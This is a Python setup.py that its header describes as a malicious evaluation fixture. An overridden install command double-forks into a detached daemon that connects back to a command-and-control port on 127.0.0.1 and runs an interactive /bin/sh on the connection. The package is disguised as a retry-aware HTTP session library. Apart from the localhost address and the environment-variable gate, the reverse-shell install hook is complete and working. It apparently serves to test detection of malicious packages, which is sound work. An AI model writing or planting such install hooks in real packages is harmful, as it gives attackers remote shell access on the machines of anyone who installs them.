# Evaluation fixture (malicious): a daemonised Python reverse shell.  An
# overridden install command double-forks (setsid, stdio detached); the
# daemon waits a moment, connects back to its C2 and runs /bin/sh on the
# connection, outliving the install.  Acts only inside the evaluation: the
# C2 is 127.0.0.1 at SP_C2_PORT (the evaluation's listener sends one
# command that writes a marker, then hangs up).
import os
import socket
import subprocess
import time

from setuptools import setup
from setuptools.command.install import install


def _shell(port):
    time.sleep(2)
    for _ in range(5):
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=10)
        except OSError:
            time.sleep(1)
            continue
        subprocess.call(["/bin/sh", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())
        s.close()
        return


class Install(install):
    def run(self):
        port = int(os.environ.get("SP_C2_PORT", "0"))
        if port and os.environ.get("SP_TOKEN"):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    fd = os.open(os.devnull, os.O_RDWR)
                    for i in (0, 1, 2):
                        os.dup2(fd, i)
                    try:
                        _shell(port)
                    finally:
                        os._exit(0)
                os._exit(0)
        super().run()


setup(
    name="revshell-python-daemon",
    version="2.1.0",
    description="Retry-aware HTTP session",
    py_modules=["retrysession"],
    cmdclass={"install": Install},
)
